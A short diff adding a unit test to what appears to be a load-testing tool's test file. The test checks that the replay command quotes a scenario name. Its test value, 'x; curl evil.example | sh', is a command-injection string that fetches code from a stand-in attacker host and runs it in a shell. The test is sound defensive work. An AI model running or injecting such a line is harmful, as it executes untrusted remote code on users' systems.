@@ -109,6 +109,10 @@ describe('the command that sends the same requests again', () => {
     expect(own).not.toContain('--duration');
     expect(repeatCommand(sampleLoad({ settings: ofTrace }))).toContain('--duration 10s');
   });
+  it('quotes whatever a folder has for a name', () => {
+    const scenario = 'x; curl evil.example | sh' as ReturnType<typeof sampleLoad>['scenario'];
+    expect(repeatCommand(sampleLoad({ scenario }))).toContain("load 'x; curl evil.example | sh' ");
+  });
 
   it('repeats the length that was asked for where a precision ended the run before', () => {
     const { settings } = sampleLoad();
